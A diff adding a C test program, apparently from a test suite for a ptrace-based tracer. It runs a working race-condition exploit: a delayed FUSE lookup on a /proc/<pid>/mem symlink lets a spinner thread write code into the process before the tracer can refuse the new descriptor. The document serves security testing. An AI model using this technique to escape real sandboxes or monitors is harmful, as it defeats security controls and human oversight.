@@ -1,0 +1,182 @@
+/*
+ * Attack: an open for writing that blocks longer than a tracer holds its
+ * siblings for. In a private mount namespace the program mounts a FUSE
+ * filesystem served by a forked child process (it shares no descriptor
+ * table or memory with the program): one entry, "mem", a symlink to
+ * /proc/<program>/mem whose LOOKUP the server answers only after 1 s. The
+ * main thread opens <mount>/mem O_RDWR; meanwhile a spinner thread pwrites
+ * TW_CODE over tw_patch_target through the descriptor number the open will
+ * get (the lowest free one) until that succeeds. A tracer that lets held
+ * siblings go while the open still blocks lets the spinner use the new mem
+ * descriptor between the kernel installing it and the exit stop refusing
+ * it; main then calls tw_patch_target (RAN slow_open_call).
+ * Needs root (mount namespaces, FUSE); otherwise `STEP fuse_mount ...`.
+ */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <pthread.h>
+#include <sched.h>
+#include <stdatomic.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+
+#include "common.h"
+
+#define LINK_NODE 2
+
+TW_DEFINE_PATCH_TARGET;
+
+static int fuse_fd = -1;
+static char target[64];
+static atomic_int spin_fd = -1, spin_stop, spin_won;
+
+static void fill_attr(struct fuse_attr *attr, uint64_t node)
+{
+	memset(attr, 0, sizeof(*attr));
+	attr->ino = node;
+	attr->mode = node == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFLNK | 0777;
+	attr->nlink = node == FUSE_ROOT_ID ? 2 : 1;
+	attr->size = node == FUSE_ROOT_ID ? 0 : strlen(target);
+	attr->blksize = 4096;
+}
+
+static void reply(uint64_t unique, int error, const void *body, size_t size)
+{
+	char out[sizeof(struct fuse_out_header) + 4096];
+	struct fuse_out_header *hdr = (struct fuse_out_header *)out;
+
+	hdr->len = (uint32_t)(sizeof(*hdr) + size);
+	hdr->error = error;
+	hdr->unique = unique;
+	if (size)
+		memcpy(out + sizeof(*hdr), body, size);
+	if (write(fuse_fd, out, hdr->len) < 0 && errno != ENOENT)
+		_exit(4);
+}
+
+/* The server (a child process): every request answered, LOOKUP after 1 s. */
+static void serve(void)
+{
+	static char buf[1 << 18];
+
+	for (;;) {
+		ssize_t n = read(fuse_fd, buf, sizeof(buf));
+		struct fuse_in_header *in = (struct fuse_in_header *)buf;
+		void *arg = buf + sizeof(*in);
+
+		if (n < 0) {
+			if (errno == EINTR || errno == ENOENT || errno == EAGAIN)
+				continue;
+			_exit(0); /* ENODEV: unmounted */
+		}
+		switch (in->opcode) {
+		case FUSE_INIT: {
+			struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION,
+						     .minor = FUSE_KERNEL_MINOR_VERSION,
+						     .max_write = 4096};
+
+			reply(in->unique, 0, &init, sizeof(init));
+			break;
+		}
+		case FUSE_LOOKUP: {
+			struct fuse_entry_out entry = {0};
+
+			if (in->nodeid != FUSE_ROOT_ID || strcmp((char *)arg, "mem") != 0) {
+				reply(in->unique, -ENOENT, NULL, 0);
+				break;
+			}
+			sleep(1);
+			entry.nodeid = LINK_NODE;
+			fill_attr(&entry.attr, LINK_NODE);
+			reply(in->unique, 0, &entry, sizeof(entry));
+			break;
+		}
+		case FUSE_GETATTR: {
+			struct fuse_attr_out attr = {0};
+
+			fill_attr(&attr.attr, in->nodeid);
+			reply(in->unique, 0, &attr, sizeof(attr));
+			break;
+		}
+		case FUSE_READLINK:
+			reply(in->unique, 0, target, strlen(target));
+			break;
+		case FUSE_FORGET:
+		case FUSE_BATCH_FORGET:
+		case FUSE_INTERRUPT:
+			break; /* no reply */
+		default:
+			reply(in->unique, -ENOSYS, NULL, 0);
+		}
+	}
+}
+
+/* pwrite the code through the descriptor number the open will get. */
+static void *spinner(void *unused)
+{
+	(void)unused;
+	while (!atomic_load(&spin_stop)) {
+		if (pwrite(atomic_load(&spin_fd), TW_CODE, sizeof(TW_CODE),
+			   (off_t)(uintptr_t)tw_patch_target) == (ssize_t)sizeof(TW_CODE)) {
+			atomic_store(&spin_won, 1);
+			break;
+		}
+	}
+	return NULL;
+}
+
+int main(void)
+{
+	char dir[] = "/tmp/tw_slow_open_XXXXXX";
+	char path[256], opts[256];
+	pthread_t thread;
+	pid_t server;
+	int rc, fd;
+
+	tw_init();
+	snprintf(target, sizeof(target), "/proc/%d/mem", (int)getpid());
+	if (!mkdtemp(dir))
+		return 1;
+	rc = unshare(CLONE_NEWNS);
+	if (rc == 0)
+		rc = mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
+	if (rc == 0) {
+		fuse_fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
+		rc = fuse_fd < 0 ? -1 : 0;
+	}
+	if (rc == 0) {
+		snprintf(opts, sizeof(opts), "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse_fd);
+		rc = mount("tw", dir, "fuse", MS_NOSUID | MS_NODEV, opts);
+	}
+	tw_step("fuse_mount", "mount", rc, errno);
+	if (rc != 0)
+		return tw_done();
+	server = fork();
+	if (server == 0) {
+		serve();
+		_exit(0);
+	}
+	close(fuse_fd);
+	fd = dup(0);
+	close(fd);
+	atomic_store(&spin_fd, fd); /* the lowest free descriptor: the open's */
+	pthread_create(&thread, NULL, spinner, NULL);
+	snprintf(path, sizeof(path), "%s/mem", dir);
+	fd = open(path, O_RDWR | O_CLOEXEC);
+	tw_step("slow_open", "open", fd, errno);
+	for (int i = 0; i < 1000 && fd >= 0 && !atomic_load(&spin_won); i++)
+		usleep(1000);
+	atomic_store(&spin_stop, 1);
+	pthread_join(thread, NULL);
+	if (atomic_load(&spin_won))
+		tw_run("slow_open_call", (const void *)tw_patch_target);
+	if (fd >= 0)
+		close(fd);
+	umount2(dir, MNT_DETACH);
+	kill(server, SIGKILL);
+	waitpid(server, NULL, 0);
+	rmdir(dir);
+	return tw_done();
+}
